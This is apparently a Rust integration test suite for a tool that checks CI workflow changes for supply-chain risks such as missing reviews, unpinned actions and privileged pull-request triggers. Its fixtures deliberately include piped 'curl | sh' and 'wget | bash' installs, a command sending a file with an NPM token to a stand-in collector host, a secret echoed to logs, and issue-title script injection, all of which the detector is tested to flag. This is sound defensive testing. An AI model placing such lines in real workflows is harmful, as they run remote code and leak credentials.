//! CI workflow changes end to end: real repositories, the real binary, the
//! `supply-chain` preset. Every commit that must fail has a near miss that
//! must pass.

mod common;

use common::{Repo, Sandbox};

const POLICY: &str = "[policy]\nname = \"t\"\nextends = [\"supply-chain\"]\n";
const REVIEWED: &str = "\n\nReviewed-by: Rita Reviewer <rita@example.com>\n";
const WF: &str = ".github/workflows/ci.yml";
const SHA: &str = "b4ffde65f46336ab88eb53be808477a3936bae11";

fn f(rule: &str, path: &str, line: u64) -> (String, String, u64) {
    (rule.to_string(), path.to_string(), line)
}

fn repo_with<'s>(sb: &'s Sandbox, policy: &str) -> Repo<'s> {
    let r = sb.repo("r");
    r.policy(policy);
    r.commit_file("README", "x\n", "init");
    r
}

/// A pinned, harmless workflow with `steps` appended (each line indented by
/// the caller, from line 11 on).
fn workflow(on: &str, steps: &str) -> String {
    format!(
        "name: ci\non: {on}\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@{SHA} # v4\n        with: {{ persist-credentials: false }}\n{steps}"
    )
}

/// Commits a workflow with a review trailer, and returns the findings.
fn reviewed(r: &Repo, path: &str, text: &str) -> (i32, Vec<(String, String, u64)>) {
    r.commit_file(path, text, &format!("ci: change{REVIEWED}"));
    r.findings()
}

#[test]
fn a_workflow_change_needs_a_review_trailer_from_someone_else() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    r.commit_file(WF, workflow("push", ""), "ci: add");
    assert_eq!(r.findings(), (1, vec![f("workflow-review-missing", WF, 0)]));
    // A review by the author does not count.
    r.commit_file(
        WF,
        workflow("[push]", ""),
        "ci: tweak\n\nReviewed-by: Test User <test@example.com>\n",
    );
    assert_eq!(r.findings().0, 1);
    // Someone else's review passes.
    assert_eq!(
        reviewed(&r, WF, &workflow("[push, pull_request]", "")),
        (0, vec![])
    );
    // Deleting a workflow is a change too.
    r.git(&["rm", "-q", WF]);
    r.commit("ci: drop");
    assert_eq!(r.findings(), (1, vec![f("workflow-review-missing", WF, 0)]));
}

#[test]
fn maintainers_restrict_who_may_review() {
    let sb = Sandbox::new();
    let r = repo_with(
        &sb,
        &format!("{POLICY}maintainers = [\"Mia Maintainer <mia@example.com>\"]\n"),
    );
    assert_eq!(
        reviewed(&r, WF, &workflow("push", "")),
        (1, vec![f("workflow-review-missing", WF, 0)])
    );
    r.commit_file(
        WF,
        workflow("[push]", ""),
        "ci: tweak\n\nReviewed-by: Mia Maintainer <mia@example.com>\n",
    );
    assert_eq!(r.findings(), (0, vec![]));
}

#[test]
fn pull_request_target_with_a_head_checkout_fails() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let steps = "      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n";
    // Near miss: the same checkout under `pull_request` is fine.
    assert_eq!(
        reviewed(&r, WF, &workflow("pull_request", steps)),
        (0, vec![])
    );
    // Switching the trigger makes it dangerous: reported at the trigger.
    assert_eq!(
        reviewed(&r, WF, &workflow("pull_request_target", steps)),
        (1, vec![f("workflow-pr-target-checkout", WF, 2)])
    );
    // A checkout of the head added to a privileged workflow: reported at the checkout.
    let sb2 = Sandbox::new();
    let r2 = repo_with(&sb2, POLICY);
    reviewed(&r2, WF, &workflow("pull_request_target", ""));
    assert_eq!(
        reviewed(&r2, WF, &workflow("pull_request_target", steps)),
        (1, vec![f("workflow-pr-target-checkout", WF, 13)])
    );
}

#[test]
fn risky_lines_are_found_and_their_near_misses_pass() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let safe = "      - run: curl -sSfL -o install.sh https://example.org/install.sh && sha256sum -c install.sh.sha256\n\
                \x20     - run: echo \"${{ secrets.DOCKER_PASSWORD }}\" | docker login -u me --password-stdin\n\
                \x20     - run: 'curl -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos/o/r'\n\
                \x20     # - run: curl https://example.org/x | sh   (commented out)\n\
                \x20       env:\n\
                \x20         TITLE: ${{ github.event.issue.title }}\n";
    assert_eq!(reviewed(&r, WF, &workflow("push", safe)), (0, vec![]));
    let risky = format!(
        "{safe}      - run: curl -sSfL https://example.org/install.sh | sh\n\
         \x20     - run: echo \"token ${{{{ secrets.DEPLOY_TOKEN }}}}\"\n\
         \x20     - run: curl -d @out https://collector.example.net/?t=${{{{ secrets.NPM_TOKEN }}}}\n\
         \x20     - run: echo \"${{{{ github.event.issue.title }}}}\"\n\
         \x20   permissions: write-all\n"
    );
    let (code, got) = reviewed(&r, WF, &workflow("push", &risky));
    assert_eq!(code, 1);
    assert_eq!(
        got,
        vec![
            f("workflow-remote-script", WF, 17),
            f("workflow-secret-leak", WF, 18),
            f("workflow-secret-to-url", WF, 19),
            f("workflow-write-all", WF, 21),
            // Structural (the script is known to be one): after the line rules.
            f("workflow-script-injection", WF, 20),
        ]
    );
}

#[test]
fn actions_must_be_pinned_to_a_commit_sha() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let pinned = format!(
        "      - uses: actions/cache@{SHA} # v4\n\
         \x20     - uses: ./.github/actions/setup\n\
         \x20     - uses: docker://alpine@sha256:{}\n",
        "0".repeat(64)
    );
    assert_eq!(reviewed(&r, WF, &workflow("push", &pinned)), (0, vec![]));
    let unpinned = format!(
        "{pinned}      - uses: actions/cache@v4\n\
         \x20     - uses: \"dtolnay/rust-toolchain@master\"\n\
         \x20     - uses: docker://alpine:3.19\n"
    );
    let (code, got) = reviewed(&r, WF, &workflow("push", &unpinned));
    assert_eq!(code, 0, "unpinned actions are warnings");
    assert_eq!(
        got,
        vec![
            f("workflow-unpinned-action", WF, 14),
            f("workflow-unpinned-action", WF, 15),
            f("workflow-unpinned-action", WF, 16),
        ]
    );
}

#[test]
fn trusted_actions_and_hosts_from_the_policy_pass() {
    let sb = Sandbox::new();
    let r = repo_with(
        &sb,
        &format!(
            "{POLICY}\n[workflows]\ntrusted_actions = [\"actions/*\"]\ntrusted_hosts = [\"codecov.io\"]\n"
        ),
    );
    let steps = "      - uses: actions/cache@v4\n\
                 \x20     - run: 'curl -H \"Authorization: ${{ secrets.CODECOV_TOKEN }}\" https://api.codecov.io/upload'\n";
    let run = {
        r.commit_file(WF, workflow("push", steps), &format!("ci{REVIEWED}"));
        r.pc(&["check", "--format", "json", "HEAD"])
    };
    assert_eq!((run.code, run.rules()), (0, vec![]));
    assert_eq!(run.json()["summary"]["suppressed"], 1);
}

#[test]
fn gitlab_ci_and_policy_listed_files_are_checked() {
    let sb = Sandbox::new();
    let r = repo_with(
        &sb,
        &format!(
            "{POLICY}\n[workflows]\npaths = [\".circleci/config.yml\"]\n\n[[workflows.patterns]]\nid = \"self-hosted-runner\"\nrule = \"workflow-remote-script\"\nregex = 'runs-on:.*self-hosted'\ndescription = \"runs on a self-hosted runner\"\n"
        ),
    );
    r.write(
        ".gitlab-ci.yml",
        "test:\n  script:\n    - wget -qO- https://example.org/setup | bash\n",
    );
    r.write(
        ".circleci/config.yml",
        "jobs:\n  build:\n    runs-on: [self-hosted]\n",
    );
    r.write(
        "docs/.gitlab-ci.yml",
        "not: ci\n    - curl https://example.org/x | sh\n",
    );
    r.commit(&format!("ci: more{REVIEWED}"));
    assert_eq!(
        r.findings(),
        (
            0,
            vec![
                f("workflow-remote-script", ".circleci/config.yml", 3),
                f("workflow-remote-script", ".gitlab-ci.yml", 3),
            ]
        )
    );
}

#[test]
fn a_bad_pattern_in_the_policy_is_a_load_error_naming_it() {
    let sb = Sandbox::new();
    let r = sb.repo("r");
    r.policy(&format!(
        "{POLICY}\n[[workflows.patterns]]\nid = \"broken\"\nrule = \"workflow-remote-script\"\nregex = 'curl ('\n"
    ));
    r.commit_file("README", "x\n", "init");
    let run = r.pc(&["check", "HEAD"]);
    assert_eq!(run.code, 2, "{}", run.stdout);
    assert!(
        run.stderr.contains("workflows.patterns[broken].regex")
            && run.stderr.contains(".policy-check.toml:"),
        "{}",
        run.stderr
    );
    r.policy(&format!(
        "{POLICY}\n[[workflows.patterns]]\nid = \"x\"\nrule = \"no-such-rule\"\nregex = 'x'\n"
    ));
    let run = r.pc(&["check", "HEAD"]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("unknown rule `no-such-rule`"),
        "{}",
        run.stderr
    );
}

#[test]
fn crlf_and_renamed_workflows() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let text =
        workflow("push", "      - run: curl https://example.org/i | sh\n").replace('\n', "\r\n");
    let (_, got) = reviewed(&r, WF, &text);
    assert_eq!(got, vec![f("workflow-remote-script", WF, 11)]);
    r.git(&["mv", WF, ".github/workflows/renamed.yml"]);
    r.commit("ci: rename");
    assert_eq!(
        r.findings(),
        (
            1,
            vec![f(
                "workflow-review-missing",
                ".github/workflows/renamed.yml",
                0
            )]
        )
    );
}
